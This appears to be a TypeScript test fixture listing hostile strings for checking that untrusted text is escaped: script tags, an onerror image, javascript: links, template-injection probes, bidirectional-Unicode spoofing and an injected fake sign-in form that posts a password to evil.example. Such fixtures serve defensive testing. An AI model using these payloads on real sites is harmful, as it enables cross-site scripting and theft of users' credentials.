/** Texts that would do harm if any part of them were taken as HTML, as a script or as a direction of all that follows. */
export const HOSTILE_TEXTS = [
  '<script>document.title = "taken over"</script>',
  '<img src=x onerror="document.title = \'taken over\'">',
  '</p></article></main><h1>Sign in again</h1><form action="https://evil.example/"><input name=password>',
  '<a href="javascript:document.title=1">here</a> javascript:document.title=1 [here](javascript:document.title=1)',
  '</script><script>document.title = "taken over"</script><!-- --!> {{ 7*7 }} ${7*7} &lt;b&gt; &amp;',
  'User \u202E txt.exe \u2066 evil \u200F left',
];

const INVISIBLE = /[\u200F\u202E\u2066]/;

/** A display name made of such a text. A name takes no invisible characters, and fewer characters than a text. */
export function hostileName(text: string): string {
  return INVISIBLE.test(text) ? 'Grace Hopper' : text.slice(0, 100).trim();
}

/** For a regular expression that matches exactly these characters. */
export function escapeRegExp(text: string): string {
  return text.replace(/[\\^$.*+?()[\]{}|]/g, '\\$&').replace(/\s+/g, '\\s+');
}
